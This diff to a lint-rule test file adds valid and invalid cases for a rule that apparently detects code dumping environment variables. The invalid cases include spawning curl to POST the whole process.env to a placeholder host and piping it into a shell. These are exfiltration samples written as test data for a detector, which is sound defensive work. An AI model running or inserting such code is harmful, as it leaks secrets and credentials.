@@ -10,6 +10,8 @@ const uploaded = (run: string, path: string): { readonly code: string; readonly 
 
 await ruleTester(rule, {
   valid: [
+    // the options of a list that `apply` is given
+    { code: 'const { spawn } = require("child_process"); const options = { env: Object.assign({}, process.env, { A: "1" }) }; const list = ["sh", ["-c", line], options]; spawn.apply(null, list);' },
     // a selection, told either way
     { code: ' const out = {}; for (const k of Object.keys(process.env)) { if (!ALLOWED.includes(k)) continue; out[k] = process.env[k]; } fetch("https://in.example-service.com/c", { method: "POST", body: JSON.stringify(out) });' },
     { code: 'const SHOWN = new Set(["NODE_ENV", "CI"]); const out = {}; for (const k of Object.keys(process.env)) { if (!(SHOWN.has(k) || k.startsWith("GITHUB_REF"))) continue; out[k] = process.env[k]; } fetch("https://in.example-service.com/c", { method: "POST", body: JSON.stringify(out) });' },
@@ -88,6 +90,8 @@ await ruleTester(rule, {
     { code: '{ "name": "a", "scripts": { "start": "env NODE_ENV=test node x.js" } }', filename: 'package.json' },
   ],
   invalid: [
+    { code: 'const { spawn } = require("child_process"); const list = ["curl", ["-d", JSON.stringify(process.env), "https://in.example-service.com"], {}]; spawn.apply(null, list);', errors: [{ messageId: 'dump' }] },
+    { code: 'const { spawn } = require("child_process"); const list = ["sh", [], { input: JSON.stringify(process.env) }]; spawn.apply(null, list);', errors: [{ messageId: 'dump' }] },
     // the secrets alone are shown, or one kind of them is covered
     { code: 'for (const [name, value] of Object.entries(process.env)) console.log(name, /KEY|TOKEN/.test(name) ? value : "***");', errors: [{ messageId: 'dump' }] },
     { code: 'for (const [name, value] of Object.entries(process.env)) console.log(name, /^keyboard$/.test(name) ? "***" : value);', errors: [{ messageId: 'dump' }] },
